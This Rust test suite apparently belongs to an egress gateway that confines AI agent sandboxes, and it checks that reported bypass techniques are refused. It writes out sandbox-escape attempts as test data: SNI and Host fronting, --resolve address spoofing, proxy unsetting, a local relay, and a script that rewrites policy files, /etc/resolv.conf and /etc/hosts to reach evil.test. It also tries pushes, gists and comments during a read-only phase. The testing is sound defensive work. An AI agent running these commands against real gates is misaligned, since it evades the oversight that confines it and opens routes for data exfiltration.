//! Ways around the gate that were reported of other systems, and are shown nowhere else in this suite.
//!
//! | reported | shown by |
//! |---|---|
//! | the question about a name carries the message; a resolver that is always allowed; TCP 53 and 853 | `names`, `network` |
//! | a name with NUL in it, read in two ways | `requests`, 19 |
//! | no rules, and so no gate; rules edited from inside | here |
//! | what a listener inside passes on is judged differently | here |
//! | h2c and upgrades fall back to passing bytes | `requests`, 22 |
//! | two lengths; only the first request is looked at | `requests`, 23 |
//! | whoever decides fails, and nothing is enforced | `outage`, 81 |
//! | 0.0.0.0, `::` and `/0` | `network`, 8, and here |
//! | fronting: hello, Host and CONNECT name different hosts; an encrypted hello | `requests`, 20 and 21, and here |
//! | a name in the hello, any address below it | here |
//! | files at a model's host, pushes, gists, packages | `allowed` |
//! | a credential without TLS, for a Host at an address of the attacker's; TRACE; rendered forms | `secrets` |
//! | programs that ignore the proxy | `requests`, 29 |
//! | a neighbour as a relay | `network`, 8 |
//! | secrets and authorities doubled into copies | `secrets`, 76 |
//! | the host runs what was written inside; links that lead elsewhere; one sandbox uses up what all need | `repositories` in `sandbox`, `files`, `limits` |
//! | policies of Kubernetes that add up | nowhere: there is no Kubernetes yet |

use tests::internet::{
    Arrival, House, Internet, PUBLIC, Plan, Record, Reply, Request, json, program,
};

use crate::{
    ground::{
        Attempt, Control, Ground, PROXY, REPORTED, attempt, curl, on_the_internet, probe, probing,
        texts, until,
    },
    table::Tally,
};

const POLICY: &str = "
version: 1
egress:
  research:
    allow: [ok.test, github, model:anthropic]
  implement:
    allow:
      - ok.test
      - github
      - { host: plain.test, ports: [80] }
      - { host: api.test, methods: [GET, POST] }
";

const SERVER: &str = "
version: 1
sandboxes: { warm: 0, disk_budget: 4GiB, disk_guaranteed: 256MiB }
models:
  - { name: anthropic, provider: anthropic, secret: ANTHROPIC_API_KEY }
";

/// Whatever may be asked for, nothing is there.
fn everything() -> Vec<Attempt> {
    let secret = curl(&["https://ok.test/"]);
    let by_address = curl(&[
        "--noproxy",
        "*",
        "-k",
        "--resolve",
        "ok.test:443:93.184.216.34",
        "https://ok.test/",
    ]);
    let socks = curl(&["--socks5-hostname", "127.0.0.1:1080", "https://ok.test/"]);
    let house = |line: &[&str]| Control::House(line.iter().map(|&word| word.to_owned()).collect());
    let control = || house(&["tcp", "93.184.216.34:9999"]);
    vec![
        attempt(REPORTED, "by proxy", &secret, &[]).control(control()),
        attempt(REPORTED, "by address", &by_address, &[]).control(control()),
        attempt(REPORTED, "by SOCKS", &socks, &[]).control(control()),
        attempt(
            REPORTED,
            "git",
            &curl(&["https://github.com/acme/shop.git/info/refs?service=git-upload-pack"]),
            &[],
        )
        .control(control()),
    ]
}

/// No rules are not no gate.
fn without_rules(internet: &Internet, tally: &mut Tally) {
    for (name, policy) in [
        ("empty", "version: 1\negress: { implement: { allow: [] } }\n"),
        ("silent", "version: 1\n"),
        ("elsewhere", "version: 1\negress: { setup: { allow: [ok.test, github] } }\n"),
    ] {
        let house = House::start(internet, policy);
        let mut ground = Ground::new(internet, &house, name, &["--tier", "verified"]);
        for attempt in everything() {
            // With a network there is a refusal; without one there is not even a door.
            ground.deny(&attempt.says(&["403", "curl: ("]).refused_at_most());
        }
        let asked =
            house.lamp(&["sandbox", "create", "wide", "--tier", "verified", "--allow", "ok.test"]);
        let refused = asked.code == Some(1);
        ground.check(REPORTED, "asking for more than the policy has", &asked.to_string(), refused);
        tally.merge(ground.counted());
    }
    for (name, policy) in [
        ("everything", "egress: { implement: { allow: ['*'] } }"),
        ("a whole top level", "egress: { implement: { allow: ['*.com'] } }"),
        ("an address", "egress: { implement: { allow: ['93.184.216.34'] } }"),
        ("a range", "egress: { implement: { allow: ['0.0.0.0/0'] } }"),
        ("a range of IPv6", "egress: { implement: { allow: ['::/0'] } }"),
        ("a range inside", "internal: [{ name: a, host: a.test, addresses: ['0.0.0.0/0'] }]"),
        ("any address inside", "internal: [{ name: a, host: a.test, addresses: ['0.0.0.0'] }]"),
        ("any address of IPv6 inside", "internal: [{ name: a, host: a.test, addresses: ['::'] }]"),
        (
            "the metadata inside",
            "internal: [{ name: a, host: a.test, addresses: ['169.254.169.254'] }]",
        ),
        ("an unknown key", "egres: {}"),
        ("no YAML", "egress: ["),
    ] {
        let text = format!("version: 1\n{policy}\n");
        let what = format!("reported a policy with {name} is refused, and the server with it");
        let directory = tempfile::tempdir().unwrap();
        std::fs::write(directory.path().join("policy.yaml"), text).unwrap();
        std::fs::write(directory.path().join("lamp.yaml"), "version: 1\n").unwrap();
        let at = |name: &str| directory.path().join(name).to_str().unwrap().to_owned();
        // One that started would run until it is told to end.
        let mut command = internet.in_house("timeout");
        command.arg("10").arg(program()).args(["up", "--temporary", "--listen", "127.0.0.1:0"]);
        command.args(["--data", &at("data"), "--run", &at("run"), "--config", &at("lamp.yaml")]);
        let out = command.env("HOME", directory.path()).output().unwrap();
        let said = String::from_utf8_lossy(&out.stderr).replace('\n', " / ");
        tally.check(&what, &said, (out.status.code() == Some(1)).into());
    }
}

/// A listener inside that passes everything on to the proxy changes nothing.
fn relayed(ground: &mut Ground<'_>) {
    let house = ground.house;
    for (name, url, expected) in [
        ("a host that may be reached", "https://ok.test/", true),
        ("one that may not", "https://evil.test/", false),
    ] {
        let mark = (ground.internet.mark(), house.audit().len());
        let relay = house.spawn(ground.sandbox(), &texts(&probing(&["relay", "4712", PROXY])));
        let said = until(|| {
            let said =
                house.run(ground.sandbox(), &curl(&["--proxy", "http://127.0.0.1:4712", url]));
            // Until it listens, nobody answers.
            (said.code != Some(7)).then_some(said)
        });
        drop(relay);
        let said = said.unwrap();
        let arrived = ground.internet.since(mark.0);
        let refusals = house.audited(mark.1, usize::from(!expected), Record::is_refusal);
        let refused = refusals.iter().filter(|record| record.is_refusal()).count();
        let right = if expected {
            said.out.ends_with("arrived")
        } else {
            arrived.is_empty() && refused == 1 && said.all().contains("403")
        };
        ground.check(
            REPORTED,
            &format!("relayed by a listener inside: {name}"),
            &said.to_string(),
            right,
        );
    }
}

/// The address that a program connects to means nothing; the name does.
fn spoofed(ground: &mut Ground<'_>) {
    for address in ["10.0.0.5", "169.254.169.254", "93.184.216.99", "192.168.77.1"] {
        let mark = ground.internet.mark();
        let to = format!("ok.test:443:{address}");
        // An answer that ends the connection, so that the next one is dialled anew.
        let line = curl(&[
            "--noproxy",
            "*",
            "--resolve",
            &to,
            "-H",
            "Connection: close",
            "https://ok.test/close",
        ]);
        let said = ground.house.run(ground.sandbox(), &line);
        let dialled: Vec<String> = ground
            .internet
            .since(mark)
            .iter()
            .filter_map(|arrival| match arrival {
                Arrival::Packet { protocol: 6, to, .. } => Some(to.to_string()),
                Arrival::Packet { .. }
                | Arrival::Query { .. }
                | Arrival::Hello { .. }
                | Arrival::Request(_)
                | Arrival::Bytes { .. } => None,
            })
            .collect();
        let right = said.out.ends_with("arrived") && dialled.iter().all(|to| to == PUBLIC);
        ground.check(
            REPORTED,
            &format!("the hello says ok.test, the address is {address}"),
            &format!("{dialled:?} {said}"),
            right,
        );
    }
    let ok = curl(&["--noproxy", "*", "https://ok.test/"]);
    let evil =
        curl(&["--noproxy", "*", "--resolve", "evil.test:443:93.184.216.34", "https://evil.test/"]);
    ground.deny(
        &attempt(REPORTED, "the hello says evil.test, the address is ok.test's", &evil, &ok)
            .says(&["403"])
            .refused("not_allowed"),
    );
    let fronted = curl(&["--noproxy", "*", "-H", "Host: evil.test", "https://ok.test/"]);
    ground.deny(
        &attempt(REPORTED, "fronting without a proxy", &fronted, &ok)
            .says(&["421"])
            .refused("mismatch"),
    );
    let made_up = "a=$(python3 -c 'import socket; print(socket.gethostbyname(\"ok.test\"))'); \
                   exec curl -sS -i -m 9 --noproxy '*' --resolve evil.test:443:$a https://evil.test/";
    ground.deny(
        &attempt(
            REPORTED,
            "the address of ok.test, the hello of evil.test",
            &["sh", "-c", made_up],
            &ok,
        )
        .says(&["421"])
        .refused("mismatch"),
    );
    let plain = "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
    let fine = "GET / HTTP/1.1\\r\\nHost: plain.test\\r\\nConnection: close\\r\\n\\r\\n";
    let one =
        probe(REPORTED, &["say", "93.184.216.34:80", plain]).named("Host of another at port 80");
    ground.deny(&one.says(&["403"]).refused("not_allowed").control(Control::Inside(probing(&[
        "say",
        "93.184.216.34:80",
        fine,
    ]))));
}

/// What an agent writes inside does not become a rule.
fn edited(ground: &mut Ground<'_>) {
    let script = "mkdir -p ~/.config/lamplighter ~/.lamplighter; \
        for f in ~/policy.yaml ~/lamp.yaml ~/.config/lamplighter/policy.yaml ~/.lamplighter/policy.yaml /tmp/policy.yaml; do \
        printf 'version: 1\\negress: { implement: { allow: [evil.test] } }\\n' > $f; done; \
        unset HTTPS_PROXY HTTP_PROXY ALL_PROXY https_proxy http_proxy all_proxy; export NO_PROXY='*' LAMP_POLICY=~/policy.yaml; \
        printf 'nameserver 8.8.8.8\\n' > /etc/resolv.conf; printf '93.184.216.34 evil.test\\n' >> /etc/hosts; \
        exec curl -sS -i -4 -m 9 https://evil.test/";
    let one = attempt(
        REPORTED,
        "rules, proxies and hosts written inside",
        &["sh", "-c", script],
        &curl(&["https://ok.test/"]),
    );
    ground.deny(&one.says(&["403", "curl: (6)"]).refused("not_allowed"));
    let one =
        attempt(REPORTED, "the same as root", &["sh", "-c", script], &curl(&["https://ok.test/"]));
    ground.deny(&one.by_root().says(&["403", "curl: (6)"]).refused("not_allowed"));
}

/// Before the gate there is reading and a model, and nothing else.
fn before_the_gate(internet: &Internet, house: &House<'_>) -> Tally {
    let with = [
        "--tier",
        "verified",
        "--phase",
        "research",
        "--allow",
        "ok.test",
        "--allow",
        "github",
        "--allow",
        "model:anthropic",
    ];
    let mut ground = Ground::new(internet, house, "research", &with);
    let read = curl(&["https://api.github.com/repos/acme/shop"]);
    for (name, line) in [
        ("posting where only reading is allowed", vec!["-d", "x", "https://ok.test/"]),
        ("a host of the next phase", vec!["-d", "x", "https://api.test/"]),
        (
            "asking what could be pushed",
            vec!["https://github.com/acme/shop.git/info/refs?service=git-receive-pack"],
        ),
        ("pushing", vec!["-d", "x", "https://github.com/acme/shop.git/git-receive-pack"]),
        ("a pull request", vec!["-d", "{}", "https://api.github.com/repos/acme/shop/pulls"]),
        ("a comment", vec!["-d", "{}", "https://api.github.com/repos/acme/shop/issues/1/comments"]),
        ("a gist", vec!["-d", "{}", "https://api.github.com/gists"]),
        (
            "a mutation",
            vec![
                "-d",
                "{\"query\":\"mutation { addComment(input: {}) { clientMutationId } }\"}",
                "https://api.github.com/graphql",
            ],
        ),
    ] {
        ground.deny(
            &attempt(REPORTED, &format!("research: {name}"), &curl(&line), &read)
                .says(&["Lamplighter refused"])
                .refused_any(),
        );
    }
    let mark = internet.mark();
    let body = r#"{"model":"claude-sonnet-4-5","max_tokens":1,"messages":[{"role":"user","content":"x"}]}"#;
    let said = house.run(
        "research",
        &curl(&[
            "-H",
            "Content-Type: application/json",
            "-H",
            "anthropic-version: 2023-06-01",
            "-d",
            body,
            "http://model.lamp.internal/anthropic/v1/messages",
        ]),
    );
    let asked = internet
        .since(mark)
        .iter()
        .filter_map(Arrival::request)
        .any(|it: &Request| it.path() == "/v1/messages");
    ground.check(REPORTED, "research: control: a model is asked", &said.to_string(), asked);
    let wide = house.lamp(&[
        "sandbox",
        "create",
        "wide",
        "--phase",
        "research",
        "--allow",
        "{ host: api.test, methods: [POST] }",
    ]);
    ground.check(
        REPORTED,
        "research: asking for a host of the next phase",
        &wide.to_string(),
        wide.code == Some(1),
    );
    ground.counted()
}

fn server(internet: &Internet) -> House<'_> {
    internet.site("ok.test", |request| {
        let close = if request.path() == "/close" { "Connection: close\r\n" } else { "" };
        let text = format!("HTTP/1.1 200 OK\r\nContent-Length: 7\r\n{close}\r\narrived");
        Reply::Bytes(text.into_bytes())
    });
    internet.site("api.github.com", |_| json("{}"));
    let house =
        House::start_with(internet, &Plan { server: SERVER.to_owned(), ..Plan::new(POLICY) });
    let set = [
        "secret",
        "set",
        "ANTHROPIC_API_KEY",
        "--host",
        "api.anthropic.com",
        "--header",
        "x-api-key",
    ];
    let said = house.lamp_reading(&set, b"sk-ant-ours-and-nobody-elses");
    assert!(said.succeeded(), "{said}");
    house
}

#[test]
fn a_bypass_that_was_reported_elsewhere_is_none_here() {
    on_the_internet("reported bypasses", |internet| {
        let house = server(internet);
        let with = [
            "--tier",
            "verified",
            "--allow",
            "ok.test",
            "--allow",
            "{ host: plain.test, ports: [80] }",
        ];
        let mut ground = Ground::new(internet, &house, "verified", &with);
        relayed(&mut ground);
        spoofed(&mut ground);
        edited(&mut ground);
        let mut tally = ground.done();
        drop(house);
        without_rules(internet, &mut tally);
        tally.unsupported(
            "reported policies of Kubernetes that add up",
            "there is no Kubernetes yet",
        );
        tally.finish("reported bypasses", 39);
    });
}

#[test]
fn before_the_gate_there_is_reading_and_a_model_and_nothing_else() {
    on_the_internet("before the gate", |internet| {
        let house = server(internet);
        before_the_gate(internet, &house).finish("before the gate", 10);
    });
}
